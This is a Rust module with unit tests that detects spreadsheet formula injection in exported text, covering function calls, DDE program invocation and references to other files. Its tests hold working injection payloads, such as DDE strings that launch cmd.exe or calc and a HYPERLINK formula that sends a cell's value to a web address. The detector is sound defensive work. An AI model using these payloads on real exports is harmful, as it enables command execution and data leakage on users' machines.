//! Spreadsheet formula injection: texts that a spreadsheet takes for a formula when it opens an export of the table.
//!
//! A leading `=` makes a formula of nearly everything behind it. After `+`, `-` and `@` ordinary texts stand far more often (numbers,
//! telephone numbers, list items, handles), so there a text is risky only when it calls a function, asks another program for data
//! (DDE) or reaches into another file.

/// Functions that no ordinary text names: any spelling counts.
const FUNCTIONS: [&[u8]; 22] = [
    b"hyperlink",
    b"webservice",
    b"filterxml",
    b"encodeurl",
    b"importxml",
    b"importdata",
    b"importhtml",
    b"importfeed",
    b"importrange",
    b"ddeinit",
    b"rtd",
    b"register.id",
    b"sql.request",
    b"concatenate",
    b"textjoin",
    b"vlookup",
    b"hlookup",
    b"xlookup",
    b"iferror",
    b"arrayformula",
    b"unichar",
    b"googletranslate",
];

/// Functions whose names are words too (`-open(s)`): in capitals, or with an argument as formulas have it.
const WORDS: [&[u8]; 24] = [
    b"sum",
    b"if",
    b"call",
    b"register",
    b"exec",
    b"execute",
    b"dde",
    b"image",
    b"info",
    b"cell",
    b"query",
    b"open",
    b"run",
    b"char",
    b"concat",
    b"join",
    b"index",
    b"match",
    b"offset",
    b"indirect",
    b"substitute",
    b"let",
    b"lambda",
    b"shell",
];

/// The longest name of a function, in bytes.
const NAME_MAX: usize = 32;

/// Whether a text that begins with this byte is looked at.
#[inline]
pub fn may_lead(byte: u8) -> bool {
    // Signs; white space and quotes that stand before them; the first bytes of full-width signs and of white space that is not ASCII.
    matches!(byte, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\n' | 0x0B | 0x0C | b' ' | b'"' | b'\'' | b'`' | 0xC2 | 0xE2 | 0xE3 | 0xEF)
}

/// Whether a byte stands in every formula that does something, unless it begins with `=`: a call, or a value of something else.
#[inline]
pub const fn may_act(byte: u8) -> bool {
    (byte == b'(') | (byte == b'!')
}

/// Whether a spreadsheet would take the text for a formula that does something.
pub fn value(text: &[u8]) -> bool {
    value_among(text, true)
}

/// The same, of a text among others; `acts` tells whether [`may_act`] is true of any byte of theirs.
pub fn value_among(text: &[u8], acts: bool) -> bool {
    let Some((sign, rest)) = lead(text) else { return false };
    match sign {
        b'=' => begins_formula(rest),
        _ => acts && (calls(rest) || asks_program(rest) || reaches_file(rest)),
    }
}

/// The sign that the text begins with, past what a spreadsheet takes away, and what follows it.
fn lead(text: &[u8]) -> Option<(u8, &[u8])> {
    let mut rest = text;
    loop {
        rest = match rest {
            [sign @ (b'=' | b'+' | b'-' | b'@'), rest @ ..] => return Some((*sign, rest)),
            [0xEF, 0xBC, 0x9D, rest @ ..] => return Some((b'=', rest)),
            [0xEF, 0xBC, 0x8B, rest @ ..] => return Some((b'+', rest)),
            [0xEF, 0xBC, 0x8D, rest @ ..] => return Some((b'-', rest)),
            [0xEF, 0xBC, 0xA0, rest @ ..] => return Some((b'@', rest)),
            [b'\t' | b'\r' | b'\n' | 0x0B | 0x0C | b' ' | b'"' | b'\'' | b'`', rest @ ..] => rest,
            // No-break space, quotes of French.
            [0xC2, 0xA0 | 0xAB | 0xBB, rest @ ..] => rest,
            // White space, invisible characters and quotes of U+2000 to U+203F; the invisible ones of U+2060 on.
            [0xE2, 0x80, 0x80..=0x8F | 0x98..=0x9F | 0xA8..=0xAF | 0xB9 | 0xBA, rest @ ..] => rest,
            [0xE2, 0x81, 0xA0..=0xA9, rest @ ..] => rest,
            // The space of ideographs, the byte order mark.
            [0xE3, 0x80, 0x80, rest @ ..] | [0xEF, 0xBB, 0xBF, rest @ ..] => rest,
            _ => return None,
        };
    }
}

/// Whether what follows a `=` is more than a rule of dashes or a face.
fn begins_formula(rest: &[u8]) -> bool {
    let rest = rest.trim_ascii();
    let Some(first) = rest.first() else { return false };
    let starts = first.is_ascii_alphanumeric() || !first.is_ascii() || b"_(\"'+-@$[{\\.#".contains(first);
    let says = rest.iter().any(|byte| byte.is_ascii_alphanumeric() || !byte.is_ascii());
    // `=D`, `=o)`: no reference to a cell is so short without a digit.
    starts && says && (rest.len() > 2 || (rest.len() == 2 && rest.iter().any(u8::is_ascii_digit)))
}

/// Whether a function is called, where a formula may have a call: after the sign, an operator or a bracket.
fn calls(rest: &[u8]) -> bool {
    let signs = rest.iter().take_while(|byte| b" +-=@".contains(byte)).count();
    memchr::memchr_iter(b'(', rest).any(|bracket| {
        let (before, after) = (rest.get(..bracket).unwrap_or_default(), rest.get(bracket + 1..).unwrap_or_default());
        let before = before.trim_ascii_end();
        let length = before.iter().rev().take(NAME_MAX + 1).take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'.').count();
        let (stem, name) = before.split_at(before.len() - length);
        let begins = match stem.last() {
            None => true,
            Some(last) => b"+-*/^&=,;(<>@!".contains(last) || (*last == b' ' && stem.len() <= signs),
        };
        begins && is_function(name, after)
    })
}

fn is_function(name: &[u8], after: &[u8]) -> bool {
    let is = |list: &[&[u8]]| list.iter().any(|known| known.eq_ignore_ascii_case(name));
    is(&FUNCTIONS) || (is(&WORDS) && (name.iter().all(|byte| !byte.is_ascii_lowercase()) || begins_argument(after)))
}

/// A text, a number or a cell.
fn begins_argument(after: &[u8]) -> bool {
    match after.trim_ascii_start() {
        [b'"' | b'0'..=b'9', ..] => true,
        [b'$', rest @ ..] | rest => {
            let letters = rest.iter().take_while(|byte| byte.is_ascii_uppercase()).count();
            let number = rest.get(letters..).unwrap_or_default();
            (1..=3).contains(&letters) && matches!(number, [b'0'..=b'9', ..] | [b'$', b'0'..=b'9', ..])
        }
    }
}

/// Dynamic data exchange, `program|topic!item`: how a cell starts a program.
fn asks_program(rest: &[u8]) -> bool {
    let Some(item) = memchr::memrchr(b'!', rest) else { return false };
    memchr::memchr_iter(b'|', rest).any(|bar| {
        let (program, topic) = (rest.get(..bar).unwrap_or_default(), rest.get(bar + 1..).unwrap_or_default());
        let program = program.strip_suffix(b"'").unwrap_or(program);
        let letters = program.iter().rev().take(2).filter(|byte| byte.is_ascii_alphanumeric()).count();
        let topic = topic.trim_ascii_start();
        let begins = topic.first().is_some_and(|first| matches!(first, b'\'' | b'"') || first.is_ascii_alphanumeric());
        letters == 2 && begins && bar < item
    })
}

/// `'\\host\share\[book.xls]sheet'!A1` and `[book.xls]sheet!A1`: a value of another file, for which the spreadsheet opens it.
fn reaches_file(rest: &[u8]) -> bool {
    let rest = rest.trim_ascii_start();
    match rest {
        [b'\'' | b'[' | b'\\', inside @ ..] => {
            let bang = memchr::memchr(b'!', inside);
            let closed = bang.and_then(|bang| inside.get(..bang)).is_some_and(|name| name.contains(&b']') || name.starts_with(b"\\"));
            closed && bang.and_then(|bang| inside.get(bang + 1)).is_some_and(|cell| cell.is_ascii_alphabetic() || *cell == b'$')
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_does_something_in_a_spreadsheet_is_found() {
        for text in [
            "=1+1",
            "=A1",
            "=HYPERLINK(\"http://example.org/?x=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "=+cmd|' /C calc'!A0",
            "=-1+cmd|' /C calc'!A0",
            "=@SUM(1,2)",
            "= IMPORTXML(\"http://example.org\", \"//a\")",
            "=Sheet1!$A$1",
            "=SUM(A1:A9)",
            "+cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C notepad'!'A1'",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "+SUM(A1)",
            "+sum(1,2)",
            "-HYPERLINK(\"http://example.org\")",
            "-1+hyperlink(\"http://example.org\")",
            "+image(\"http://example.org/a.png\")",
            "+'\\\\host\\share\\[book.xls]Sheet1'!A1",
            "-[book.xls]Sheet1!$A$1",
            "+MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
            "\t=1+1",
            "\r=1+1",
            " =1+1",
            "\"=1+1",
            "'=1+1",
            "\u{feff}=1+1",
            "\u{a0}=1+1",
            "\u{200b}=1+1",
            "＝1+1",
            "＋cmd|' /C calc'!A0",
            "－2+cmd|' /C calc'!A0",
            "＠SUM(1+1)",
        ] {
            assert!(value(text.as_bytes()), "{text:?}");
            assert!(may_lead(text.as_bytes()[0]), "{text:?}");
            assert!(text.bytes().any(may_act) || matches!(lead(text.as_bytes()), Some((b'=', _))), "{text:?}");
        }
    }

    #[test]
    fn a_long_text_takes_no_more_than_its_length() {
        for part in ["if(", " if(", "a|", "|'", "(", "= ", "[!"] {
            value(format!("-{}{}", " ".repeat(300_000), part.repeat(200_000)).as_bytes());
        }
    }

    #[test]
    fn ordinary_texts_that_begin_with_a_sign_are_not() {
        for text in [
            "",
            "-",
            "+",
            "=",
            "@",
            "--",
            "---",
            "=====",
            "=-=-=",
            "== title ==",
            "=> next",
            "=)",
            "=D",
            "=o)",
            "=?UTF-8?B?YQ==?=",
            "-5",
            "+5",
            "-12,5 %",
            "+1.5e3",
            "-1 234,50 €",
            "+33 6 12 34 56 78",
            "+33 (0)6 12 34 56 78",
            "+1 (555) 123-4567",
            "- item",
            "- item (note)",
            "-item(s)",
            "-open(s)",
            "- image(s) manquante(s)",
            "-if(x) then y",
            "@handle",
            "@ann.example",
            "@media(max-width)",
            "@Override",
            "@SuppressWarnings(\"unchecked\")",
            "+A1",
            "-A1 steel",
            "-N(CH3)2",
            "+Fe(II)",
            "-CH(OH)-",
            "-log(P)",
            "-ln(x)",
            "+/- 5",
            "+-3",
            "-a|b",
            "- a | b | c!",
            "-1|2",
            "ordinary",
            "a=1+1",
            "1=1",
            "x @ y",
            " - item",
            "\t- item",
            "'t is",
            "\"quoted\"",
            "«cité»",
            "－",
            "－５",
            "+', ok",
            "-[x] done!",
            "-[x] done! Bien",
            "+ [a] b!",
            "@[user]!",
        ] {
            assert!(!value(text.as_bytes()), "{text:?}");
        }
    }
}
